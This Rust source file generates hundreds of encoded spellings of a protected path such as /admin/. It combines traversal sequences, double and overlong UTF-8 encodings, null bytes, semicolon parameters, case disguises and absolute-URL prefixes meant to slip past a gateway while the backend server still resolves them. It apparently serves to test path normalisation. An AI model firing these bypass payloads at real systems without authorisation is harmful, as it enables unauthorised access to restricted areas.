//! Ways to write a path into a protected area that a gateway may overlook and a server may understand.

use std::collections::BTreeSet;

/// Separators as somebody might write them.
const SLASHES: [&str; 24] = [
    "/",
    "//",
    "///",
    "%2f",
    "%2F",
    "%252f",
    "%25252f",
    "\\",
    "%5c",
    "%5C",
    "%255c",
    "/./",
    "/%2e/",
    "/;/",
    "/.;/",
    "/;x=y/",
    "%c0%af",
    "%e0%80%af",
    "%f0%80%80%af",
    "%ef%bc%8f",
    "\u{ff0f}",
    "%u002f",
    "%u2215",
    "%00/",
];

/// Ways up one directory.
const CLIMBS: [&str; 34] = [
    "..",
    "%2e%2e",
    "%2E%2E",
    ".%2e",
    "%2e.",
    "%252e%252e",
    "%25252e%25252e",
    "..;",
    "..;x=y",
    "%2e%2e;",
    "..%3b",
    "..%00",
    "..%0d",
    "..%20",
    "..%09",
    "%c0%ae%c0%ae",
    "%c0%2e%c0%2e",
    "%e0%80%ae%e0%80%ae",
    "%f0%80%80%ae%f0%80%80%ae",
    "%ef%bc%8e%ef%bc%8e",
    "\u{ff0e}\u{ff0e}",
    "%u002e%u002e",
    "%uff0e%uff0e",
    "..\\",
    "..%5c",
    "..%2f",
    "..%252f",
    "..%c0%af",
    "..%ef%bc%8f",
    "%e2%80%a5",
    "...",
    ".%00.",
    "..#",
    "..?",
];

/// What may stand behind the name of the area.
const TAILS: [&str; 46] = [
    "",
    "/",
    "//",
    "/.",
    "/./",
    "/..",
    "/../",
    "/x",
    "/x/..",
    "/%2e",
    "/%2e%2e",
    "%2f",
    "%2F",
    "%5c",
    "\\",
    "%252f",
    ";",
    ";/",
    ";x=y",
    ";x=y/",
    ";/../public/",
    "/;x",
    "%3b",
    "%3b/",
    "%3bx=y/",
    "#",
    "#/",
    "/#/public/",
    "%23",
    "%23/",
    "?",
    "?/public/",
    "%3f",
    "%3f/public/",
    "%00",
    "%00/",
    "/%00",
    "%0a",
    "%0d%0a",
    "%09",
    "%20",
    "%20/",
    "/%20",
    ".",
    "./",
    "%ff",
];

/// What may stand before it.
const HEADS: [&str; 60] = [
    "/",
    "//",
    "///",
    "////",
    "/./",
    "/.//",
    "/%2e/",
    "/%2E/",
    "/%252e/",
    "/.;/",
    "/;/",
    "/;x=y/",
    "/;x=y;z/",
    "/%3b/",
    "/%2f",
    "/%2F",
    "/%252f",
    "%2f",
    "\\",
    "/\\",
    "\\/",
    "\\\\",
    "/%5c",
    "/%5C",
    "/%255c",
    "/x/../",
    "/x//../",
    "/x/..//",
    "/x/%2e%2e/",
    "/public/../",
    "/public/x/../../",
    "/public/%2e%2e/",
    "/public/..;/",
    "/public/..%2f",
    "/public/..%5c",
    "/public/..\\",
    "/public/.%2e/",
    "/public//../",
    "/public/;/../",
    "/../",
    "/../../",
    "/%2e%2e/",
    "/..%2f",
    "/..;/",
    "//localhost/",
    "//evil.example/",
    "///localhost/",
    "/\\localhost/",
    "http://localhost/",
    "http://evil.example/",
    "https://localhost/",
    "HTTP://localhost/",
    "http:///",
    "http:/",
    "http:",
    "//@/",
    "@localhost/",
    ":80/",
    "*/",
    "",
];

/// Every spelling of `area` (`/admin/`); at least 423 of them, in a fixed order, each once.
pub(crate) fn spellings(area: &str) -> Vec<Vec<u8>> {
    let name = area.trim_matches('/');
    let mut all = BTreeSet::new();
    let mut add = |spelling: String| all.extend([spelling.into_bytes()]);
    for head in HEADS {
        for tail in ["", "/", "/x"] {
            add(format!("{head}{name}{tail}"));
        }
    }
    for tail in TAILS {
        add(format!("/{name}{tail}"));
        add(format!("/{name}{tail}x/y"));
    }
    for climb in CLIMBS {
        for slash in SLASHES {
            add(format!("/public/{climb}{slash}{name}/"));
            add(format!("/public{slash}{climb}{slash}{name}/"));
        }
        add(format!("/public/x/{climb}/{climb}/{name}/x"));
        add(format!("/{climb}/{name}/"));
        add(format!("/{name}/x/{climb}/"));
        add(format!("/x/{climb}/{name}/?y=/public/"));
    }
    for slash in SLASHES {
        add(format!("{slash}{name}{slash}"));
        add(format!("/{name}{slash}x"));
        add(format!("/public{slash}..{slash}{name}"));
    }
    for word in words(name) {
        add(format!("/{word}"));
        add(format!("/{word}/"));
        add(format!("/{word}/x?y"));
        add(format!("/public/../{word}/"));
        add(format!("//{word}/"));
        add(format!("/./{word};a=b/x"));
    }
    let mut bytes: Vec<Vec<u8>> = all.into_iter().collect();
    // Bytes that are no UTF-8 or no printable character, raw.
    for byte in [0x00_u8, 0x01, 0x08, 0x09, 0x0b, 0x0c, 0x1f, 0x20, 0x7f, 0x80, 0xa0, 0xff] {
        for place in ["/{}name/", "/name{}/", "/public/..{}/name/", "/{}/name/"] {
            let (before, after) = place.split_once("{}").unwrap_or((place, ""));
            let mut spelling = before.replace("name", name).into_bytes();
            spelling.push(byte);
            spelling.extend_from_slice(after.replace("name", name).as_bytes());
            bytes.push(spelling);
        }
    }
    bytes
}

/// Ways to write one word: each letter in each disguise.
fn words(name: &str) -> Vec<String> {
    let mut words = vec![name.to_ascii_uppercase(), name[..1].to_ascii_uppercase() + &name[1..]];
    let disguises: [fn(u8) -> String; 8] = [
        |byte| char::from(byte.to_ascii_uppercase()).to_string(),
        |byte| format!("%{byte:02x}"),
        |byte| format!("%{byte:02X}"),
        |byte| format!("%{:02x}", byte.to_ascii_uppercase()),
        |byte| format!("%25{byte:02x}"),
        |byte| format!("%2525{byte:02x}"),
        |byte| format!("%u00{byte:02x}"),
        |byte| format!("%{:02x}%{:02x}", 0xc0 | (byte >> 6), 0x80 | (byte & 0x3f)),
    ];
    for disguise in disguises {
        words.push(name.bytes().map(disguise).collect());
        for (at, byte) in name.bytes().enumerate() {
            words.push(format!("{}{}{}", &name[..at], disguise(byte), &name[at + 1..]));
        }
    }
    words
}
